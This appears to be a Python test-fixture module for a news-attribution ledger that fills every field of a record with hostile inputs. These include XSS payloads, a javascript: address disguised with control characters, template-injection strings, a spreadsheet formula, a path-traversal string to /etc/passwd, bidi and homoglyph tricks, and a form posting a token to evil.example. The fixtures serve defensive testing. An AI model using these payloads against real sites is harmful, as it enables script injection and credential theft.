"""Articles that are made to harm whoever shows them: a payload in every field of a record, and pages around payloads.

``x-hit`` is an element and an attribute that no page of ours has, ``window.hit`` a variable that no script of ours
sets: wherever one of them turns up, a payload has become more than text.
"""

from __future__ import annotations

from pathlib import Path

from msgspec.structs import replace

from ledger.articles import Said, article
from onrecord.ledger.ledger import Ledger
from onrecord.record.types import (
    Addressee,
    BlockSpan,
    ContentSpan,
    Mention,
    ReaderRecord,
    Record,
    Role,
    SpanRecord,
    TimeSpan,
)

__all__ = ["CROOKED", "PAGES", "PAYLOADS", "crooked_records", "hostile_record", "ill_willed"]

_RUN = "window.hit=1"
PAYLOADS: dict[str, str] = {
    "script": f"<script>{_RUN}</script><x-hit>",
    "out of a title": f"</title></textarea></style></script></noscript><script>{_RUN}</script><x-hit>",
    "out of an attribute": f"\"'><img src=x onerror={_RUN}><x-hit x=\"'",
    "into an attribute": f"\" x-hit onmouseover={_RUN} onfocus={_RUN} autofocus tabindex=0 x='",
    "into a single-quoted attribute": f"' x-hit onfocus={_RUN} autofocus x='",
    "into an unquoted attribute": f"x x-hit onfocus={_RUN} autofocus",
    "picture": f"<svg/onload={_RUN}><x-hit>",
    "frame": f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe><x-hit>",
    "address": f"javascript:{_RUN}",
    "address in disguise": f"\x01jAvA\tsCrIpT\n:{_RUN}",
    "data address": f"data:text/html,<script>parent.{_RUN}</script>",
    "base": "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=https://evil.example/'><x-hit>",
    "style": "<style>*{display:none!important}</style><link rel=stylesheet href=https://evil.example/x.css><x-hit>",
    "form": "<form action=https://evil.example/><input name=token><button>Go</button></form><x-hit>",
    "comment": "<!-- --!> <![CDATA[ ]]> <? ?> <x-hit>",
    "template": "{{ 7*191 }}{% for x in y %}{# #}${7*191}<%= 7*191 %>",
    "out of JSON": f'\\"}}]</script><script>{_RUN}</script><!--\u2028\u2029<x-hit>',
    "formula": '=HYPERLINK("https://evil.example","x")',
    "path": "../../etc/passwd?x=1#y%00%2e%2e%2f&z;:@",
    "turned round": "abc\u202efdp.exe\u2066\u2067\u202d\u2069\u202c def",
    "right to left": "قالت ماريا أورتيغا إن الرسوم لن ترتفع שלום עולם",
    "control characters": "a\x00b\x07c\x1b[31md\x7fe\x85f\x9bg\x0bh\x0ci",
    "nothing to be seen": "inv\u200bis\u200cib\u200dle\ufeff\u2060\u00ad" + "\u200b" * 500,
    "accents in a heap": "Z" + "\u0301\u0330\u035c" * 150 + "algo",
    "faces": "👩‍👩‍👧‍👦🏳️‍🌈🇪🇺👋🏿" * 40,
    "one long word": "Donau" + "dampfschifffahrts" * 300 + "gesellschaft",
    "one long address": "https://evil.example/" + "x" * 3_000,
    "many marks": "!?;…“”‘’«»„" * 150,
    "wide characters": "﷽𒐫꧅" * 60,
    "lookalike": "Мaria Оrtega",
    "lookalike's original": "Maria Ortega",
    "white space": "a\u00a0b\u3000c\u2003\u2028d\u2029e\t\tf",
}
#: Characters that only a program can send: half of a pair, and beyond what any text has.
CROOKED = ("\ud800", "a\udfffb", "\ufdd0\uffff")


def hostile_record(payload: str, name: str = "") -> Record:
    """An article with the payload wherever a record has words, ids included: records come from strangers too."""
    record = article(
        Said(payload, payload),
        Said(payload, f"it is so: {payload}", quoted=False, hops=3),
        Said("Maria Ortega", f"{payload} and so on", cue=payload),
        uri=payload
        if payload.lower().lstrip("\x01").startswith(("java", "data"))
        else f"https://evil.example/{payload}",
        outlet=payload,
        published="2023-03-15",
        title=payload,
        opening=payload,
    )
    ids = {entity.id: f"{entity.id}{payload}" for entity in record.entities}
    entities = [
        replace(
            entity,
            id=ids[entity.id],
            name=payload if number == 0 else entity.name,
            roles=[
                Role(title=payload, organization=next(iter(ids.values())), start=0, end=1),
                Role(title=payload, status="former", start=0, end=1),
            ],
        )
        for number, entity in enumerate(record.entities)
    ]
    speaker = next(iter(ids.values()))
    attributions = [
        replace(
            each,
            id=f"{each.id}{payload}",
            source=replace(each.source, entity=ids[each.source.entity]),
            cue=replace(each.cue, lemma=payload),
            addressee=Addressee([SpanRecord(0, len(payload))], speaker),
            hedges=[SpanRecord(0, len(payload))],
            time=TimeSpan(0, len(payload), payload),
            chain=[replace(hand, entity=ids.get(hand.entity or "")) for hand in each.chain],
        )
        for each in record.attributions
    ]
    document = replace(
        record.document, id=f"sha256:{name}{payload}", authors=[payload, payload], sponsor=payload, language=payload
    )
    return replace(
        record,
        document=document,
        entities=entities,
        attributions=attributions,
        reader=ReaderRecord(payload, payload),
    )


def crooked_records() -> dict[str, Record]:
    """Records in which every span lies within the text and nothing else is as a reader would have made it."""
    whole = article(
        Said("Maria Ortega", "The quay is sound"),
        Said("Tomas Keller", "the levy waits", quoted=False),
        Said("Ana Petrova", "We shall see what the winter brings"),
    )
    text, first = whole.document.text, whole.attributions[0]
    length = len(text)
    everything = [ContentSpan(0, length, True)]

    def made(number: int, **changes: object) -> Record:
        document = replace(whole.document, id=f"sha256:crooked-{number}", **changes.pop("document", {}))  # type: ignore[arg-type]
        return replace(whole, document=document, **changes)

    empty = replace(
        first, source=replace(first.source, spans=[]), content=[], cue=replace(first.cue, spans=[]), chain=[]
    )
    return {
        "no blocks": made(1, document={"blocks": []}),
        "blocks over one another": made(2, document={"blocks": [BlockSpan("paragraph", 0, length)] * 3}),
        "blocks out of order": made(3, document={"blocks": whole.document.blocks[::-1]}),
        "empty blocks": made(4, document={"blocks": [BlockSpan("heading", 5, 5), *whole.document.blocks]}),
        "nothing said": made(5, attributions=[], entities=[]),
        "no text": made(6, document={"text": "", "blocks": []}, attributions=[], entities=[]),
        "attributions of nothing": made(7, attributions=[empty]),
        "contents over one another": made(
            8, attributions=[replace(each, content=everything) for each in whole.attributions]
        ),
        "crossing contents": made(
            9,
            attributions=[
                replace(each, content=[ContentSpan(at * 5, at * 5 + 40, False)])
                for at, each in enumerate(whole.attributions)
            ],
        ),
        "nested in what does not hold it": made(
            10, attributions=[first, replace(whole.attributions[1], parent=first.id)]
        ),
        "everything nested": made(
            11,
            attributions=[
                replace(first, id=f"a{number}", parent=f"a{number - 1}" if number > 1 else None, content=everything)
                for number in range(1, 120)
            ],
        ),
        "parts out of order": made(
            12, attributions=[replace(first, content=[ContentSpan(40, 60, False), ContentSpan(2, 20, True)])]
        ),
        "empty spans": made(
            13,
            attributions=[
                replace(
                    first,
                    content=[ContentSpan(7, 7, False)],
                    hedges=[SpanRecord(length, length)],
                    time=TimeSpan(length, length),
                )
            ],
            entities=[replace(whole.entities[0], mentions=[Mention(0, 0, "name")]), *whole.entities[1:]],
        ),
        "a day that is none": made(14, document={"published": "the ides of March"}),
        "a long chain": made(15, attributions=[replace(first, chain=first.chain * 200)]),
        "the same words as source, cue and content": made(
            16,
            attributions=[
                replace(
                    first,
                    source=replace(first.source, spans=[SpanRecord(0, 10)]),
                    cue=replace(first.cue, spans=[SpanRecord(0, 10)]),
                    content=[ContentSpan(0, 10, True)],
                    hedges=[SpanRecord(0, 10)],
                )
            ],
        ),
    }


def ill_willed(path: Path) -> dict[str, int]:
    """A ledger at ``path`` of hostile and crooked records; the numbers of its articles by what is wrong with them."""
    made = {name: hostile_record(payload, name) for name, payload in PAYLOADS.items()} | crooked_records()
    with Ledger(path, write=True) as ledger:
        added = ledger.add(list(made.values()))
        numbers = {name: each.document_id for name, each in zip(made, added, strict=True) if each.document_id}
        for name, payload in PAYLOADS.items():
            words = " ".join("".join(letter for letter in payload if letter.isprintable()).split())
            attribution = made[name].attributions[1]
            ledger.correct(
                numbers[name], attribution.id, "entity", name=words[:200], who=words[:200], note=words[:2_000]
            )
    assert len(numbers) == len(made), [each.reason for each in added if each.reason]
    return numbers


def _page(title: str, body: str, head: str = "") -> str:
    return (
        f"<!doctype html><html><head><title>{title}</title>{head}</head><body><article><h1>{title}</h1>{body}"
        "<p>“The quay is sound, and the levy can wait until the storms are over,” said Maria Ortega, the mayor.</p>"
        "<p>Tomas Keller, who speaks for the skippers, said that they had heard that before, and had paid for it.</p>"
        "</article></body></html>"
    )


#: Pages of the web that want to be more than read.
PAGES: dict[str, str] = {
    "a script in every place": _page(
        f"<script>{_RUN}</script>Levy waits",
        f"<script>{_RUN}</script><p onclick='{_RUN}'>The <img src=x onerror='{_RUN}'>levy &lt;script&gt;{_RUN}"
        f"&lt;/script&gt; waits, <a href='javascript:{_RUN}'>the town hall</a> said on Monday in a short note.</p>"
        f"<iframe src='javascript:{_RUN}'></iframe><svg onload='{_RUN}'><script>{_RUN}</script></svg>",
        f"<meta name=author content='&lt;img src=x onerror={_RUN}&gt;'>"
        f"<meta property=og:site_name content='&quot;&gt;&lt;script&gt;{_RUN}&lt;/script&gt;'>"
        f"<link rel=canonical href='javascript:{_RUN}'><base href='https://evil.example/'>",
    ),
    "markup that is broken": (
        "<!doctype html><html><head><title>Levy waits</title <body><<article><p><b><i>The levy</p></b><table><tr>"
        '<p>waits</table><p title="><script>window.hit=1</script>">“We wait,” said <a href=\'x>Maria Ortega</a></p>'
        "<a href=''></p></p></div></article><![CDATA[x]]>"
        "<p>“The quay is sound, and the levy can wait until the storms are over,” said Maria Ortega, the mayor.<p>"
        + "The council said it would wait for the end of the storms.<p/>" * 4
        + "<!-- <p>“Nobody reads this,” said Nobody.</p>"
    ),
    "marks that turn text round": _page(
        "Levy \u202edaetsni sllaf\u202c waits",
        "<p>\u2067The levy\u2069 “waits\u202e” said nobody, at least not here.</p>",
    ),
    "marks by number": _page(
        "Levy &#x202e;waits&#0;&#xD800;&#x1F;", "<p>&#8238;The levy&#0; &#xDFFF;waits, &lt;b&gt;it&lt;/b&gt; says.</p>"
    ),
    "deep markup": _page("Levy waits", "<div>" * 120 + "<p>The levy waits for the storms to end.</p>" + "</div>" * 120),
}
